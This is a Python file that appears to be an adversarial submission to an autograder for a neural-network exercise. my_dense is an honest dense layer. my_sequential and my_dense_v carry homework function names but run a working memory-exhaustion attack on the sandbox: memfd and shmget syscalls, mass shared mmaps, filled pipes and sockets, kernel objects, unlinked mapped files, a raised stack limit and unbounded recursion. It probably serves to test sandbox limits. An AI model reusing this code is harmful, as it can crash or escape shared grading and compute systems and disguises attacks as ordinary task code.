"""Harming: memory that no heap holds: shared mappings, files in memory, stacks, pipes, sockets, kernel objects.

points: at most 30
extra: 0
says: asks for more memory than a submission may use
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import ctypes
import fcntl
import glob
import mmap
import os
import select
import socket
import sys
import threading

HELD = []
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
ADDRESSES = 6144  # MB; the default, which the tests leave


def tell(what):
    raise RuntimeError("GAINED: " + what)


def until_refused(way, most):
    for _ in range(most):
        try:
            HELD.append(way())
        except (OSError, ValueError, MemoryError, RuntimeError):
            return


def size():
    with open("/proc/self/status") as file:
        text = file.read()
    return int(text.partition("VmSize:")[2].split()[0]) // 1024


def named(name, *arguments):
    """Memory with a name: memfd_create, memfd_secret, shmget."""
    number = {"memfd_create": (319, 279), "memfd_secret": (447, 447), "shmget": (29, 194)}[name][0 if X86 else 1]
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    got = LIBC.syscall(ctypes.c_long(number), *given)
    if got < 0:
        raise OSError
    tell(name)


def shared():
    """Not touched: 256 MB each; touched: one page of each."""
    held = mmap.mmap(-1, 256 << 20, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    held[0] = 1
    return held


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    for way in (lambda: named("memfd_create", b"attack", 0), lambda: named("memfd_create", b"attack", 4),
                lambda: named("memfd_secret", 0), lambda: named("shmget", 0, 64 << 20, 0o1600)):
        until_refused(way, 1)
    until_refused(shared, 100)
    until_refused(lambda: mmap.mmap(-1, 64 << 20, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | 0x4000), 200)  # NORESERVE
    until_refused(lambda: mmap.mmap(-1, 16 << 20, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | 0x8000), 500)  # POPULATE
    if size() > ADDRESSES:
        tell(f"{size()} MB of addresses")
    return mmap.mmap(-1, 8 << 30)


def kernel_objects():
    """What the kernel keeps for us, each a little."""
    for _ in range(300):
        yield lambda: filled(os.pipe()[1])
        yield lambda: filled(socket.socketpair()[0].detach())
        yield lambda: select.epoll()
        yield lambda: os.eventfd(0)
        yield lambda: LIBC.inotify_init()
        yield lambda: LIBC.timerfd_create(0, 0)
        yield lambda: LIBC.landlock_create_ruleset
        yield lambda: LIBC.syscall(ctypes.c_long(222 if X86 else 107), ctypes.c_long(1), None, ctypes.byref(ctypes.c_int()))


def filled(descriptor):
    """As large as it gets, and full; a pipe of a pipe by splice and tee."""
    os.set_blocking(descriptor, False)
    for command, most in ((1031, 1 << 20),):  # F_SETPIPE_SZ
        try:
            fcntl.fcntl(descriptor, command, most)
        except OSError:
            pass
    try:
        while os.write(descriptor, bytes(1 << 16)):
            pass
    except BlockingIOError:
        pass
    return descriptor


def my_dense_v(A_in, W, b, g):
    for way in kernel_objects():
        try:
            HELD.append(way())
        except OSError:
            break
    # Files in the folder, mapped: not the heap's, and gone from the folder.
    for number in range(400):
        try:
            with open(f"attack_{number}", "w+b") as file:
                file.truncate(1 << 20)
                HELD.append(mmap.mmap(file.fileno(), 1 << 20))
                HELD[-1][:] = b"x" * (1 << 20)
            os.unlink(f"attack_{number}")
        except (OSError, ValueError):
            break
    # The main thread's stack is not data, and its limit may be ours to set.
    import resource

    try:
        hard = resource.getrlimit(resource.RLIMIT_STACK)[1]
        resource.setrlimit(resource.RLIMIT_STACK, (hard, hard))
    except (OSError, ValueError):
        pass
    sys.setrecursionlimit(1 << 30)
    return deep(0)


def deep(level):
    """Through C and Python in turn, so that each level takes some of the stack."""
    return max([level], key=lambda one: deep(one + 1))
